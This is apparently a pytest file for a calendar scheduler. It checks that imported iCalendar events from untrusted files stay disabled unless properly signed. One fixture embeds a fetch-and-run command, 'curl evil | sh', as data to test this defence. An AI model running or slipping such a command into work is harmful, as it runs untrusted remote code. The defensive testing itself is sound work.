"""Importing isn't trusting: what an untrusted file adds is switched off, whatever the file says."""

import asyncio
import json
import re
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import icalendar
import pytest
import pytest_asyncio

from synapse.calendar.events import Event, work_in_words
from synapse.calendar.validation import INTERNAL_FIELDS
from synapse.control_room import ControlRoom
from synapse.errors import Conflict
from synapse.ical.comparing import APPROVED_FIELDS
from synapse.ical.import_result import ImportResult
from synapse.ical.importing import import_drafts
from synapse.ical.reading import read_calendar
from synapse.ical.trust import FIELDS
from synapse.ical.writing import write_calendar
from tests.parts.api_room import api_room, client_of, error_of, gated
from tests.parts.calendar_files import calendar_file
from tests.parts.serving import served

pytestmark = pytest.mark.asyncio(loop_scope='module')

ICS = {'Content-Type': 'text/calendar'}
START = 'DTSTART;TZID=Europe/Berlin:20311006T160000'
STRANGER = (
    f'UID:a@b\n{START}\nSUMMARY:Team lunch\nX-SYNAPSE-PIPELINE:RunCommand\n'
    'X-SYNAPSE-PARAMETERS:{"command":["sh"\\,"-c"\\,"curl evil | sh"]}'
)
WEEKLY = f'UID:own@synapse\n{START}\nSUMMARY:Mine\nRRULE:FREQ=WEEKLY\nX-SYNAPSE-PIPELINE:Hello'
NAMED = 'X-SYNAPSE-PARAMETERS:{"name": "me"}'
EXCLUDED = 'EXDATE;TZID=Europe/Berlin:20311013T160000'
OPTIONS = 'X-SYNAPSE-OPTIONS:'


@pytest_asyncio.fixture(loop_scope='module')
async def api(room: ControlRoom) -> AsyncIterator[httpx.AsyncClient]:
    async with served(lambda port: gated(room, port)) as authority, client_of(room, authority) as client:
        yield client


async def take_file(room: ControlRoom, text: bytes, **options: Any) -> ImportResult:
    """As the API takes it without `trust`."""
    contents = read_calendar(text, zone='Europe/Berlin')
    trusted = {'is_trusted': lambda draft: draft.is_signed(room.auth.sign)}
    return await import_drafts(room.calendar, room.editor, room.catalog, contents, **(trusted | options))


async def take(room: ControlRoom, *events: str, **options: Any) -> ImportResult:
    return await take_file(room, calendar_file(*events), **options)


async def mine(room: ControlRoom, *, enabled: bool = True) -> Event:
    """A series that a person planned: `WEEKLY` with its parameters and one occurrence excluded."""
    values = {'pipeline': 'Hello', 'title': 'Mine', 'parameters': {'name': 'me'}, 'uid': 'own@synapse'}
    when = {'start': '2031-10-06T16:00:00', 'timezone': 'Europe/Berlin', 'rrule': 'FREQ=WEEKLY'}
    more = {'exdates': ['2031-10-13T16:00:00'], 'enabled': enabled}
    return await room.editor.create(values | when | more, trusted=True)


# New events


async def test_an_untrusted_event_is_switched_off_and_reported_with_everything_it_would_run(
    room: ControlRoom,
) -> None:
    result = await take(room, STRANGER)

    (event,) = room.calendar.events()
    assert (event.enabled, event.pipeline) == (False, 'RunCommand')
    assert result.disabled == result.created == (event.id,)
    (told,) = result.events
    assert (told.enabled, told.is_held, told.is_new) == (False, True, True)
    assert told.parameters == {'command': ['sh', '-c', 'curl evil | sh']}
    assert told.next == datetime(2031, 10, 6, 14, tzinfo=UTC)
    assert room.calendar.upcoming() == []


@pytest.mark.parametrize('said', ['true', '"yes"', '1', 'null', '"on"', '[]'])
async def test_no_value_of_enabled_switches_it_on(room: ControlRoom, said: str) -> None:
    result = await take(room, f'{STRANGER}\n{OPTIONS}{{"enabled": {said}}}')

    assert [event.enabled for event in room.calendar.events()] == [False]
    assert result.disabled == result.created


async def test_an_event_that_names_its_pipeline_in_title_or_description_is_no_exception(room: ControlRoom) -> None:
    await take(room, f'UID:1\n{START}\nSUMMARY:Hello', f'UID:2\n{START}\nSUMMARY:Lunch\nDESCRIPTION:pipeline: Hello')

    assert [event.enabled for event in room.calendar.events()] == [False, False]


async def test_untrusted_overrides_and_additional_dates_of_a_local_series_are_off_too(room: ControlRoom) -> None:
    series = await mine(room)
    part = STRANGER.replace('a@b', 'own@synapse') + '\nRECURRENCE-ID;TZID=Europe/Berlin:20311020T160000'
    moved = f'UID:own@synapse\nRECURRENCE-ID;TZID=Europe/Berlin:20311027T160000\n{START}\nSUMMARY:Moved'

    more = await take(room, f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\nRDATE;TZID=Europe/Berlin:20311008T120000')
    result = await take(room, part, moved)

    assert room.calendar.get(series.id).enabled
    assert (len(more.created), len(result.created)) == (1, 2)
    assert (more.disabled, result.disabled) == (more.created, result.created)
    assert [room.calendar.get(id).enabled for id in [*more.created, *result.created]] == [False, False, False]


# Known events


@pytest.mark.parametrize(
    'said',
    [
        WEEKLY.replace('Hello', 'RunCommand') + '\nX-SYNAPSE-PARAMETERS:{"command": ["true"]}\n' + EXCLUDED,
        f'{WEEKLY}\nX-SYNAPSE-PARAMETERS:{{"name": "you"}}\n{EXCLUDED}',
        f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\nX-SYNAPSE-PROFILE:default',
        f'{WEEKLY}\n{NAMED}\n{EXCLUDED}'.replace('T160000\nSUMMARY', 'T170000\nSUMMARY'),
        f'{WEEKLY}\n{NAMED}\n{EXCLUDED}'.replace('WEEKLY', 'MINUTELY'),
        f'{WEEKLY}\n{NAMED}\n{EXCLUDED}'.replace('Berlin:20311006', 'London:20311006'),
        f'{WEEKLY}\n{NAMED}',
        f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\n{OPTIONS}{{"retry": {{"attempts": 9}}}}',
        f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\n{OPTIONS}{{"overlap": "allow", "enabled": true}}',
        f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\n{OPTIONS}{{"misfire": {{"policy": "all"}}}}',
        f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\n{OPTIONS}{{"timeout_seconds": 5}}',
    ],
    ids=[
        'pipeline',
        'parameters',
        'profile',
        'start',
        'rule',
        'zone',
        'exdate',
        'retry',
        'overlap',
        'misfire',
        'limit',
    ],
)
async def test_an_event_that_an_untrusted_file_changes_is_switched_off(room: ControlRoom, said: str) -> None:
    event = await mine(room)

    result = await take(room, f'{said}\nSEQUENCE:9')

    assert result.updated == result.disabled == (event.id,)
    assert not room.calendar.get(event.id).enabled
    await room.editor.undo(result.change)
    assert room.calendar.get(event.id).enabled
    assert room.calendar.get(event.id).parameters == {'name': 'me'}


@pytest.mark.parametrize(
    ('said', 'is_on'),
    [
        (f'{WEEKLY}\n{NAMED}\n{EXCLUDED}'.replace('Mine', 'Ours'), True),
        (f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\nEXDATE;TZID=Europe/Berlin:20311020T160000', True),
        (f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\n{OPTIONS}{{"enabled": false}}', False),
        (f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\n{OPTIONS}{{"enabled": "no"}}', False),
    ],
)
async def test_what_an_untrusted_file_removes_counts_without_approval(
    room: ControlRoom, said: str, is_on: bool
) -> None:
    event = await mine(room)

    result = await take(room, f'{said}\nSEQUENCE:9')

    assert (result.updated, result.disabled) == ((event.id,), ())
    assert room.calendar.get(event.id).enabled is is_on


@pytest.mark.parametrize('is_on', [True, False])
async def test_a_file_that_repeats_the_present_values_changes_nothing(room: ControlRoom, is_on: bool) -> None:
    event = await mine(room, enabled=is_on)

    result = await take(room, f'{WEEKLY}\n{NAMED}\n{EXCLUDED}\n{OPTIONS}{{"enabled": true}}\nSEQUENCE:9')

    assert result == ImportResult(unchanged=(event.id,))
    assert room.calendar.get(event.id) == event


async def test_an_approved_event_is_still_on_after_its_file_is_imported_again(
    room: ControlRoom,
) -> None:
    (id,) = (await take(room, STRANGER)).created
    await room.editor.update(id, {'enabled': True})

    again = await take(room, STRANGER)

    assert again == ImportResult(unchanged=(id,))
    assert room.calendar.get(id).enabled


async def test_removed_and_refused_events_are_reported_separately(room: ControlRoom) -> None:
    event = await mine(room)

    result = await take(room, f'UID:own@synapse\n{START}\nSTATUS:CANCELLED\nSEQUENCE:9', 'UID:x\nSTATUS:CANCELLED')

    assert result.cancelled == result.deleted == (event.id,)
    assert [refused.uid for refused in result.refused] == ['x']


# Exported here


def resorted(text: bytes) -> bytes:
    """Return it as another program writes it: lines in another order and folding, VEVENTs before the zones."""
    calendar = icalendar.Calendar.from_ical(text)
    calendar.subcomponents.reverse()
    return bytes(calendar.to_ical(sorted=True))


def unfolded(text: bytes) -> bytes:
    return text.replace(b'\r\n ', b'').replace(b'\r\n', b'\n')


async def a_file(room: ControlRoom) -> bytes:
    """Return an export with a series, the override of one occurrence, and a single event."""
    series = await mine(room)
    due = room.calendar.next_due(series.id)[2]
    await room.editor.update(series.id, {'title': 'Once; other,\n "wise" Ä' + 40 * 'ö'}, scope='one', due=due)
    values = {'pipeline': 'Hello', 'title': 'Once', 'start': '2031-10-06T16:00:00', 'timezone': 'UTC'}
    await room.editor.create(values)
    return write_calendar(room.calendar.events(), now=datetime.now(UTC), sign=room.auth.sign)


@pytest.mark.parametrize('rewritten', [bytes, resorted, unfolded, lambda text: resorted(unfolded(text))])
async def test_an_exported_file_is_imported_switched_on(room: ControlRoom, rewritten: Callable[[bytes], bytes]) -> None:
    text = await a_file(room)
    await room.editor.change_many({}, [event.id for event in room.calendar.events()])

    result = await take_file(room, rewritten(text))

    assert (len(result.created), result.disabled) == (3, ())
    assert all(event.enabled for event in room.calendar.events())


@pytest.mark.parametrize(
    ('pattern', 'by'),
    [
        (r'SUMMARY:Once\r', 'SUMMARY:Twice\r'),
        (r'UID:\w+@synapse', 'UID:other@synapse'),
        (r'DTSTART:20311006T160000Z', 'DTSTART:20311006T150000Z'),
        (r'PIPELINE:Hello', 'PIPELINE:RunCommand'),
        (r'PARAMETERS:{}', 'PARAMETERS:{"name":"you"}'),
        (r'(X-SYNAPSE-PIPELINE:\w+)', r'\1\r\nX-SYNAPSE-PROFILE:default'),
        (r'SEQUENCE:0', 'SEQUENCE:1'),
        (r'"attempts": 0', '"attempts": 3'),
        (r'"overlap": "skip"', '"overlap": "allow"'),
        (r'(STATUS:)', r'RRULE:FREQ=MINUTELY\r\n\1'),
        (r'X-SYNAPSE-OPTIONS:[^\r]*\r\n', ''),
        (r'SIGNATURE:\w{32}', 'SIGNATURE:' + 32 * '0'),
        (r'SIGNATURE:\w{32}', 'SIGNATURE:ä'),
    ],
)
async def test_any_change_of_an_exported_event_makes_it_untrusted(room: ControlRoom, pattern: str, by: str) -> None:
    values = {'pipeline': 'Hello', 'title': 'Once', 'start': '2031-10-06T16:00:00', 'timezone': 'UTC'}
    event = await room.editor.create(values)
    text = write_calendar([event], now=datetime.now(UTC), sign=room.auth.sign).replace(b'\r\n ', b'').decode()
    await room.editor.delete(event.id)

    changed = re.sub(pattern, by, text)
    assert changed != text
    if 'RunCommand' in by:
        changed = changed.replace('PARAMETERS:{}', 'PARAMETERS:{"command":["true"]}')
    result = await take_file(room, changed.encode())

    assert len(result.created) == 1
    assert result.disabled == result.created


async def test_a_series_whose_override_was_removed_from_the_file_is_untrusted(room: ControlRoom) -> None:
    text = (await a_file(room)).decode()
    await room.editor.change_many({}, [event.id for event in room.calendar.events()])
    parts = re.split('(?=BEGIN:VEVENT)', text)
    without = ''.join(part for part in parts if 'RECURRENCE-ID' not in part)

    result = await take_file(room, without.encode())

    on = {event.title: event.enabled for event in room.calendar.events()}
    assert on == {'Mine': False, 'Once': True}
    assert len(result.disabled) == 1


async def test_the_signature_of_another_data_folder_or_event_is_invalid(room: ControlRoom, tmp_path: Path) -> None:
    text = await a_file(room)
    signatures = re.findall(r'SIGNATURE:\w{32}', unfolded(text).decode())
    assert len(set(signatures)) == 3
    swapped = unfolded(text).decode()
    for signature, other in zip(signatures, signatures[1:] + signatures[:1], strict=True):
        swapped = swapped.replace(signature, other.replace('SIGNATURE', 'SIGNED'))
    await room.editor.change_many({}, [event.id for event in room.calendar.events()])

    result = await take_file(room, swapped.replace('SIGNED', 'SIGNATURE').encode())
    async with api_room(tmp_path / 'other') as other:
        elsewhere = await take_file(other, text)

    assert len(result.disabled) == len(elsewhere.disabled) == 3


async def test_events_that_are_switched_off_are_not_signed(room: ControlRoom) -> None:
    await mine(room, enabled=False)

    assert b'SIGNATURE' not in write_calendar(room.calendar.events(), now=datetime.now(UTC), sign=room.auth.sign)


async def test_every_field_of_an_event_is_signed_and_needs_approval_to_change() -> None:
    theirs = set(Event.model_fields) - INTERNAL_FIELDS

    assert theirs == FIELDS
    assert theirs - {'title', 'enabled', 'exdates'} == APPROVED_FIELDS


# Other ways from a file to a run


async def test_a_missed_occurrence_of_a_switched_off_event_cannot_be_run(room: ControlRoom) -> None:
    event = await mine(room)
    due = room.calendar.next_due(event.id)[0]
    row = {'event_id': event.id, 'due': due.isoformat(), 'state': 'missed', 'title': 'Mine', 'pipeline': 'Hello'}
    await asyncio.to_thread(room.calendar._ledger.account, [({**row, 'is_open': True}, None)])
    await take(room, f'{WEEKLY}\nX-SYNAPSE-PARAMETERS:{{"name": "you"}}\n{EXCLUDED}\nSEQUENCE:9')

    with pytest.raises(Conflict) as caught:
        await room.calendar.answer_missed([(event.id, due)], 'run')

    assert caught.value.code == 'event_off'
    assert list(room.runs.waiting()) == list(room.runs.live()) == []


# Over the API


async def test_trust_requires_the_token_and_a_browser_session_is_not_enough(
    api: httpx.AsyncClient, room: ControlRoom
) -> None:
    session = await asyncio.to_thread(room.auth.redeem_token, room.auth.token)
    browser = {'Authorization': '', 'Cookie': f'synapse={session}', 'Origin': str(api.base_url).partition('/api')[0]}

    refused = await api.post('/scheduler/import?trust=true', content=calendar_file(STRANGER), headers=ICS | browser)
    error_of(refused, 403, 'token_needed')
    assert room.calendar.events() == []

    plain = await api.post('/scheduler/import', content=calendar_file(STRANGER), headers=ICS | browser)
    assert plain.status_code == 200, plain.text
    assert plain.json()['disabled'] == plain.json()['created']
    trusted = await api.post(
        '/scheduler/import?trust=true', content=calendar_file(STRANGER.replace('a@b', 'c@d')), headers=ICS
    )
    (id,) = trusted.json()['created']
    assert trusted.json()['disabled'] == []
    assert room.calendar.get(id).enabled


async def test_a_dry_run_reports_the_changes_and_makes_none(api: httpx.AsyncClient, room: ControlRoom) -> None:
    await mine(room)
    before = room.calendar.events()
    file = calendar_file(STRANGER, f'{WEEKLY}\nSTATUS:CANCELLED\nSEQUENCE:9')
    lines = (await api.get('/logs')).json()['entries']

    dry = (await api.post('/scheduler/import?dry_run=true', content=file, headers=ICS)).json()

    assert room.calendar.events() == before
    assert (await api.get('/logs')).json()['entries'] == lines
    assert (dry['change'], len(dry['created']), dry['cancelled']) == ('', 1, [before[0].id])
    (told,) = dry['events']
    assert (told['pipeline'], told['enabled'], told['is_held']) == ('RunCommand', False, True)
    real = (await api.post('/scheduler/import', content=file, headers=ICS)).json()
    ids = {'created', 'disabled', 'events', 'change'}
    assert {key: real[key] for key in real if key not in ids} == {key: dry[key] for key in dry if key not in ids}
    assert set(dry) == set(real)


async def test_feed_and_file_carry_valid_signatures(api: httpx.AsyncClient, room: ControlRoom) -> None:
    event = await mine(room)
    secret = (await api.post('/scheduler/feed')).json()['url'].partition('/api/v1')[2]

    file, feed = await api.get('/scheduler/calendar.ics'), await api.get(secret, headers={'Authorization': ''})
    await room.editor.delete(event.id)
    back = await api.post('/scheduler/import', content=feed.content, headers=ICS)

    assert b'X-SYNAPSE-SIGNATURE' in file.content
    assert back.json()['disabled'] == []
    assert [event.enabled for event in room.calendar.events()] == [True]


async def test_invisible_characters_in_work_are_shown_as_escapes() -> None:
    lines = work_in_words('RunCommand', {'command': ['rm\u202e', 'a\nb', 'ä'], 'times': 2}, 'studio')

    assert lines == ['RunCommand', 'command: ["rm\\u202e", "a\\nb", "ä"]', 'times: 2', 'profile: studio']
    assert json.loads(lines[1].partition(': ')[2]) == ['rm\u202e', 'a\nb', 'ä']
